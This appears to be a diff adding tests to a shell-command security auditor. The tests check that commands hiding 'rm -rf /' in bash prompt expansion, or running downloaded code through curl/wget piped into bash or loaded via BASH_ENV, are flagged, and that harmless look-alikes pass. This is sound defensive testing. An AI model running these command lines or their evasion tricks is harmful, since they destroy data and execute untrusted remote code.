@@ -10,6 +10,7 @@ from audit_helpers import rule_ids, verdict
 
 from audit import Decision, Position, audit_command, default_policy, policy_from_mapping
 from audit._analysis import Analyzer, CodeFactKind, CodeFactSubject, Sink
+from audit._analysis._prompt import decoded_prompt
 from audit._budget import Budget
 from audit._syntax import Origin, ParseResult, parse
 
@@ -393,6 +394,53 @@ def test_prompt_expansion_warns() -> None:
 
 
 @pytest.mark.parametrize(
+    ("value", "decoded"),
+    [
+        pytest.param(r"\u@\h:\w\$ ", "_@_:__ ", id="escapes become inert text"),
+        pytest.param(r"\$(cmd)", "_(cmd)", id="an escaped dollar starts nothing"),
+        pytest.param(r"\[\e[1m\]$(cmd)\[\e[0m\]", "_[1m$(cmd)_[0m", id="readline markers vanish"),
+        pytest.param(r"\D{%H:%M} $(cmd)", "_ $(cmd)", id="a date format is one escape"),
+        pytest.param(r"\044(cmd)", "$(cmd)", id="an octal escape is its character, unquoted"),
+        pytest.param(r"\\$(cmd)", r"\$(cmd)", id="a double backslash leaves one, quoting the dollar"),
+        pytest.param(r"\`cmd\` \q", r"\`cmd\` \q", id="other backslashes stay for the expansion step"),
+        pytest.param("$(cmd)\\", "$(cmd)\\", id="a trailing backslash stays"),
+    ],
+)
+def test_a_prompt_is_decoded_as_bash_decodes_its_escapes(value: str, decoded: str) -> None:
+    assert decoded_prompt(value) == decoded
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        """x='$(rm -rf /)'; echo "${x@P}" """,
+        """x='\\044(rm -rf /)'; printf '%s' "${x@P}" """,
+        """a=('$(rm -rf /)'); y="${a[0]@P}" """,
+        """PS1='\\[\\e[1m\\]$(rm -rf ~)\\$ '; echo "${PS1@P}" """,
+    ],
+)
+def test_the_prompt_expansion_of_a_known_value_runs_its_substitutions(command: str) -> None:
+    assert rule_ids(command) == {"FS001"}
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        """x='hello \\u'; echo "${x@P}" """,
+        """x='\\$(rm -rf /)'; echo "${x@P}" """,
+        """x='\\\\$(rm -rf /)'; echo "${x@P}" """,
+        """PS1='\\u@\\h:\\w $(git branch --show-current)\\$ '; echo "${PS1@P}" """,
+    ],
+)
+def test_the_prompt_expansion_of_a_harmless_known_value_passes(command: str) -> None:
+    assert verdict(command).decision is Decision.PASS
+
+
+def test_a_downloaded_value_expanded_as_a_prompt_is_code_from_a_download() -> None:
+    assert rule_ids('x=$(curl -s https://example.com/p); echo "${x@P}"') == {"TA002"}
+
+
+@pytest.mark.parametrize(
     "command", ['eval "$cmd"', 'bash -c "$script"', 'eval "$1"', 'trap "$handler" EXIT', 'su -c "$CMD"']
 )
 def test_code_from_an_unknown_variable_warns(command: str) -> None:
@@ -555,3 +603,30 @@ def test_a_tainted_variable_in_command_position_or_code_blocks(command: str, rul
 )
 def test_tainted_data_used_as_data_passes(command: str) -> None:
     assert verdict(command).decision is Decision.PASS
+
+
+@pytest.mark.parametrize(
+    ("command", "rule"),
+    [
+        ("BASH_ENV=<(curl -s https://example.com/env) bash -c 'make test'", "EX006"),
+        ("env ENV=<(wget -qO- https://example.com/env) sh -i", "EX006"),
+        ("curl -s https://example.com/env | BASH_ENV=/dev/stdin bash -c ls", "EX001"),
+        ("curl -so /tmp/e https://example.com/env; BASH_ENV=/tmp/e make", "EX009"),
+        ("BASH_ENV=<(echo 'rm -rf /') bash -c ls", "FS001"),
+    ],
+)
+def test_a_start_up_file_is_code_every_shell_the_command_starts_runs_first(command: str, rule: str) -> None:
+    assert rule in rule_ids(command)
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["ENV=staging ./deploy.sh", "BASH_ENV=~/.bashrc bash -c 'make test'", "ENV=- make", "BASH_ENV= bash -c ls"],
+)
+def test_an_ordinary_start_up_setting_passes(command: str) -> None:
+    assert verdict(command).decision is Decision.PASS
+
+
+def test_an_interpreter_reading_a_downloaded_file_on_stdin_runs_the_download() -> None:
+    assert rule_ids("curl -so /tmp/x https://example.com/x; sh < /tmp/x") == {"EX009"}
+    assert verdict("curl -so /tmp/x https://example.com/x; wc -l < /tmp/x").decision is Decision.PASS
